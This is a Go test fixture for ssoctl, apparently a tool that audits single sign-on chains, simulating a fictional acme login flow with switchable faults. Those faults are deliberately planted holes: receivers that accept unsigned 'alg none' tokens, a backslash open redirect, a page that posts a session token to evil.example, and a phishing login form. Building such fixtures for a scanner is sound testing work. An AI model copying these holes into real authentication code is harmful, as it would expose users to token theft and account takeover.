package chain_test

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ssoctl/ssoctl/pkg/chain"
)

// acme is a propagating SSO chain that ssoctl does not serve, written the
// way an in-house team might: other paths, other parameter names, other
// cookie names, a relay from app1 to app2 by form_post.
//
//	GET  login.acme.example/signin?ret=…      issuer: no session, off to the IdP
//	GET  id.acme.example/idp/authorize?…      IdP: login form
//	POST id.acme.example/idp/login            IdP: sets idp_sess, back with a code
//	GET  login.acme.example/cb?code=…&state=… issuer: sets acme_sid, handoff to app1
//	GET  app1.shop.example/session/accept?jwt=…  app1: sets app1_session, form_post page
//	POST app2.blog.example/handoff            app2: sets app2_session
//	GET  app2.blog.example/home               the end
//
// Faults break one thing each.
const (
	acmeIssuer = "http://login.acme.example:8000"
	acmeIdP    = "http://id.acme.example:8001"
	acmeApp1   = "http://app1.shop.example:8002"
	acmeApp2   = "http://app2.blog.example:8003"
	acmeEvil   = "http://evil.example:8009"
	acmeFinal  = acmeApp2 + "/home"
	acmeUser   = "bob@example.com"
	acmePass   = "hunter2"
)

// acmeChainFile describes acme to ssoctl, for walks that know the chain.
const acmeChainFile = `version: 1
name: acme
dev: true
idp:
  kind: kratos
  public_url: ` + acmeIdP + `
issuer:
  url: ` + acmeIssuer + `
  cookie: {name: acme_sid}
mode: relay
receivers:
  - name: app1
    url: ` + acmeApp1 + `
    cookie: {name: app1_session}
  - name: app2
    url: ` + acmeApp2 + `
    cookie: {name: app2_session}
return_to:
  allow:
    - ` + acmeIssuer + `
    - ` + acmeApp1 + `
    - ` + acmeApp2 + `
expect:
  final_url_prefix: ` + acmeFinal + `
`

// acmeFaults are what a scenario breaks; the zero value is a clean chain.
type acmeFaults struct {
	ttl               time.Duration // handoff lifetime; 0 is 30s
	noAud             bool          // the issuer's handoff has no aud
	audience          string        // the issuer's handoff names this aud instead of app1
	algNone           bool          // the issuer's handoff is unsigned
	noTyp             bool          // the issuer's handoff has no typ
	publicSuffix      bool          // app1 also sets a cookie with Domain=example (a public suffix)
	registrableDomain bool          // app1 sets its session cookie with Domain=shop.example
	noHttpOnly        bool          // app2's session cookie lacks HttpOnly
	noReferrerPolicy  bool          // app1's token page sets no Referrer-Policy
	loop              bool          // app2's /home and /home2 redirect to each other
	foreignRedirect   bool          // app2 sends the browser to evil.example after the handoff
	backslashRedirect bool          // app2 sends the browser to /\evil.example:8009/, which browsers read as a host
	refuse            bool          // app1 refuses every handoff
	postToEvil        bool          // app1's form_post page posts app2's token to evil.example
	phish             bool          // app2's /home sends the browser to a login form on evil.example
	tokenInFragment   bool          // the issuer hands off with #jwt=… instead of ?jwt=…
	strictIssuer      bool          // the issuer's session cookie is SameSite=Strict
	strictApp2        bool          // app2's session cookie is SameSite=Strict, and /home wants it
}

// acme is one running acme chain.
type acme struct {
	t      testing.TB
	faults acmeFaults
	clock  *clock
	dialer *chain.Dialer
	srv    map[string]*httptest.Server // by origin
	mu     sync.Mutex
	codes  map[string]bool // authorization codes the IdP gave out
}

// acmeSecret signs acme's HS256 handoffs; fixed, so goldens are stable.
var acmeSecret = []byte("acme-test-secret-0123456789abcdef")

func startAcme(t testing.TB, f acmeFaults) *acme {
	t.Helper()
	a := &acme{t: t, faults: f, clock: newClock(), dialer: &chain.Dialer{Map: map[string]string{}, Strict: true},
		srv: map[string]*httptest.Server{}, codes: map[string]bool{}}
	a.serve(acmeIssuer, a.issuer())
	a.serve(acmeIdP, a.idp())
	a.serve(acmeApp1, a.app1())
	a.serve(acmeApp2, a.app2())
	a.serve(acmeEvil, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		if r.URL.Path == "/login" {
			fmt.Fprint(w, `<form method="post" action="/steal"><input name="username" autocomplete="username"><input type="password" name="password"></form>`)
			return
		}
		fmt.Fprint(w, "<p>you have been phished</p>")
	}))
	return a
}

func (a *acme) serve(origin string, h http.Handler) {
	srv := httptest.NewServer(h)
	a.t.Cleanup(srv.Close)
	u, _ := url.Parse(origin)
	a.dialer.Map[u.Host] = srv.Listener.Addr().String()
	a.srv[origin] = srv
}

// chain parses acmeChainFile.
func (a *acme) chain() *chain.Chain {
	a.t.Helper()
	c, err := chain.Parse("acme.yaml", []byte(acmeChainFile))
	if err != nil {
		a.t.Fatal(err)
	}
	return c
}

func (a *acme) browser(c *chain.Chain, user, password string) *chain.Browser {
	a.t.Helper()
	b, err := chain.NewBrowser(chain.BrowserOptions{Dialer: a.dialer, Chain: c, User: user, Password: password, Now: a.clock.Now})
	if err != nil {
		a.t.Fatal(err)
	}
	return b
}

func acmeStart() string {
	return acmeIssuer + "/signin?" + url.Values{"ret": {acmeFinal}}.Encode()
}

func setCookie(w http.ResponseWriter, line string) { w.Header().Add("Set-Cookie", line) }

func (a *acme) issuer() http.Handler {
	mux := http.NewServeMux()
	// Signs out for any link, as many hand-built chains do (SSO405).
	mux.HandleFunc("GET /logout", func(w http.ResponseWriter, r *http.Request) {
		setCookie(w, "acme_sid=; Path=/; Max-Age=0")
		http.Redirect(w, r, "/signed-out", http.StatusFound)
	})
	mux.HandleFunc("GET /signin", func(w http.ResponseWriter, r *http.Request) {
		ret := r.URL.Query().Get("ret")
		if _, err := r.Cookie("acme_sid"); err == nil {
			a.handoff(w, r, ret)
			return
		}
		setCookie(w, "signin_state=s-1; Path=/cb; HttpOnly; SameSite=Lax")
		q := url.Values{"client_id": {"acme"}, "redirect_uri": {acmeIssuer + "/cb"}, "state": {"s-1|" + ret}}
		http.Redirect(w, r, acmeIdP+"/idp/authorize?"+q.Encode(), http.StatusFound)
	})
	mux.HandleFunc("GET /cb", func(w http.ResponseWriter, r *http.Request) {
		q := r.URL.Query()
		a.mu.Lock()
		ok := a.codes[q.Get("code")]
		delete(a.codes, q.Get("code"))
		a.mu.Unlock()
		st, ret, _ := strings.Cut(q.Get("state"), "|")
		if c, err := r.Cookie("signin_state"); !ok || err != nil || c.Value != st {
			http.Error(w, "bad state or code", http.StatusBadRequest)
			return
		}
		setCookie(w, "signin_state=; Path=/cb; Max-Age=0; HttpOnly; SameSite=Lax")
		sid := "acme_sid=issuer-session-1; Path=/; HttpOnly; SameSite=Lax"
		if a.faults.strictIssuer {
			sid = strings.Replace(sid, "Lax", "Strict", 1)
		}
		setCookie(w, sid)
		a.handoff(w, r, ret)
	})
	return mux
}

// handoff sends the browser to app1 with a token bound to it.
func (a *acme) handoff(w http.ResponseWriter, r *http.Request, ret string) {
	f := a.faults
	claims := a.claims("app1", ret, f.ttl)
	switch {
	case f.noAud:
		delete(claims, "aud")
	case f.audience != "":
		claims["aud"] = f.audience
	}
	header := map[string]any{"alg": "HS256", "typ": "sso-handoff+jwt"}
	if f.noTyp {
		delete(header, "typ")
	}
	if f.algNone {
		header["alg"] = "none"
	}
	tok := a.sign(header, claims)
	target := acmeApp1 + "/session/accept?" + url.Values{"jwt": {tok}}.Encode()
	if f.tokenInFragment {
		target = acmeApp1 + "/session/accept#" + url.Values{"jwt": {tok}}.Encode()
	}
	http.Redirect(w, r, target, http.StatusFound)
}

// claims are a handoff's, with a fixed jti and chn so that goldens hold.
func (a *acme) claims(aud, ret string, ttl time.Duration) map[string]any {
	if ttl == 0 {
		ttl = 30 * time.Second
	}
	now := a.clock.Now().Unix()
	return map[string]any{
		"iss": acmeIssuer, "aud": aud, "sub": "user-7", "sid": "idp-session-7",
		"jti": "jti-" + aud + "-0001", "chn": "chn-0001", "iat": now, "exp": now + int64(ttl/time.Second), "ret": ret,
	}
}

func (a *acme) sign(header, claims map[string]any) string {
	enc := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			a.t.Fatal(err)
		}
		return base64.RawURLEncoding.EncodeToString(b)
	}
	input := enc(header) + "." + enc(claims)
	if header["alg"] == "none" {
		return input + "."
	}
	m := hmac.New(sha256.New, acmeSecret)
	m.Write([]byte(input))
	return input + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

const acmeLoginPage = `<!doctype html><title>Sign in</title>
<form method="post" action="/idp/login">
<input type="hidden" name="q" value="%s">
<label>Account <input name="username" autocomplete="username"></label>
<label>Password <input type="password" name="password"></label>
<button type="submit" name="action" value="login">Sign in</button>
</form>`

func (a *acme) idp() http.Handler {
	mux := http.NewServeMux()
	back := func(w http.ResponseWriter, r *http.Request, q url.Values) {
		a.mu.Lock()
		code := fmt.Sprintf("code-%d", len(a.codes)+1)
		a.codes[code] = true
		a.mu.Unlock()
		http.Redirect(w, r, q.Get("redirect_uri")+"?"+url.Values{"code": {code}, "state": {q.Get("state")}}.Encode(), http.StatusFound)
	}
	mux.HandleFunc("GET /idp/authorize", func(w http.ResponseWriter, r *http.Request) {
		if _, err := r.Cookie("idp_sess"); err == nil {
			back(w, r, r.URL.Query())
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Referrer-Policy", "no-referrer")
		fmt.Fprintf(w, acmeLoginPage, html.EscapeString(r.URL.RawQuery))
	})
	mux.HandleFunc("POST /idp/login", func(w http.ResponseWriter, r *http.Request) {
		q, _ := url.ParseQuery(r.PostFormValue("q"))
		if r.PostFormValue("username") != acmeUser || r.PostFormValue("password") != acmePass || r.PostFormValue("action") != "login" {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, acmeLoginPage, html.EscapeString(r.PostFormValue("q")))
			return
		}
		setCookie(w, "idp_sess=idp-session-7; Path=/; HttpOnly; SameSite=Lax")
		back(w, r, q)
	})
	return mux
}

const acmeInterstitial = `<!doctype html><title>Signing you in…</title>
<form method="post" action="%s"><input type="hidden" name="assertion" value="%s"><noscript><button>Continue</button></noscript></form>
<script>document.forms[0].submit()</script>`

func (a *acme) app1() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("GET /session/accept", func(w http.ResponseWriter, r *http.Request) {
		tok := r.URL.Query().Get("jwt")
		if tok == "" {
			// A fragment never reaches the server; the page's script
			// would read it. Here the page just asks to be continued.
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprint(w, "<p>Loading…</p>")
			return
		}
		claims, ok := a.verify(tok)
		if !ok || a.faults.refuse {
			http.Error(w, "bad token", http.StatusUnauthorized)
			return
		}
		cookie := "app1_session=app1-session-7; Path=/; HttpOnly; SameSite=Lax"
		if a.faults.registrableDomain {
			cookie += "; Domain=shop.example"
		}
		setCookie(w, cookie)
		if a.faults.publicSuffix {
			setCookie(w, "shop_pref=eu; Path=/; Domain=example; HttpOnly; SameSite=Lax")
		}
		ret, _ := claims["ret"].(string)
		next := a.sign(map[string]any{"alg": "HS256", "typ": "sso-handoff+jwt"}, a.claims("app2", ret, 0))
		h := w.Header()
		h.Set("Content-Type", "text/html; charset=utf-8")
		if !a.faults.noReferrerPolicy {
			h.Set("Referrer-Policy", "no-referrer")
		}
		action := acmeApp2 + "/handoff"
		if a.faults.postToEvil {
			action = acmeEvil + "/collect"
		}
		fmt.Fprintf(w, acmeInterstitial, action, next)
	})
	mux.HandleFunc("/auth", a.auth("app1_session"))
	return mux
}

func (a *acme) app2() http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("POST /handoff", func(w http.ResponseWriter, r *http.Request) {
		claims, ok := a.verify(r.PostFormValue("assertion"))
		if !ok || claims["aud"] != "app2" {
			http.Error(w, "bad token", http.StatusUnauthorized)
			return
		}
		cookie := "app2_session=app2-session-7; Path=/; SameSite=Lax"
		if a.faults.strictApp2 {
			cookie = strings.Replace(cookie, "Lax", "Strict", 1)
		}
		if !a.faults.noHttpOnly {
			cookie += "; HttpOnly"
		}
		setCookie(w, cookie)
		ret, _ := claims["ret"].(string)
		switch {
		case a.faults.foreignRedirect:
			ret = acmeEvil + "/"
		case a.faults.backslashRedirect:
			// net/url reads a path on app2; browsers read the host
			// evil.example.
			w.Header().Set("Location", `/\evil.example:8009/`)
			w.WriteHeader(http.StatusSeeOther)
			return
		}
		http.Redirect(w, r, ret, http.StatusSeeOther)
	})
	mux.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) {
		switch {
		case a.faults.loop:
			http.Redirect(w, r, "/home2", http.StatusFound)
			return
		case a.faults.phish:
			http.Redirect(w, r, acmeEvil+"/login", http.StatusFound)
			return
		}
		if _, err := r.Cookie("app2_session"); err != nil && a.faults.strictApp2 {
			http.Redirect(w, r, acmeIssuer+"/signin?"+url.Values{"ret": {acmeFinal}}.Encode(), http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<p>Welcome back. <a href="https://cdn.example.net/help">Help</a></p>`)
	})
	mux.HandleFunc("GET /home2", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "/home", http.StatusFound)
	})
	mux.HandleFunc("/auth", a.auth("app2_session"))
	return mux
}

func (a *acme) auth(cookie string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if _, err := r.Cookie(cookie); err != nil {
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		w.WriteHeader(http.StatusOK)
	}
}

// verify checks an acme token's signature (or its lack, which acme's
// receivers wrongly accept) and returns its claims.
func (a *acme) verify(tok string) (map[string]any, bool) {
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		return nil, false
	}
	if parts[2] != "" {
		m := hmac.New(sha256.New, acmeSecret)
		m.Write([]byte(parts[0] + "." + parts[1]))
		if base64.RawURLEncoding.EncodeToString(m.Sum(nil)) != parts[2] {
			return nil, false
		}
	}
	b, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return nil, false
	}
	var claims map[string]any
	if json.Unmarshal(b, &claims) != nil {
		return nil, false
	}
	return claims, true
}

// clock is a settable clock shared by a chain's servers and the browser.
type clock struct {
	mu  sync.Mutex
	now time.Time
}

// newClock starts at a fixed instant, so traces and goldens are stable.
func newClock() *clock {
	return &clock{now: time.Date(2030, 1, 2, 3, 4, 5, 0, time.UTC)}
}

func (c *clock) Now() time.Time { c.mu.Lock(); defer c.mu.Unlock(); return c.now }

func (c *clock) Advance(d time.Duration) { c.mu.Lock(); c.now = c.now.Add(d); c.mu.Unlock() }
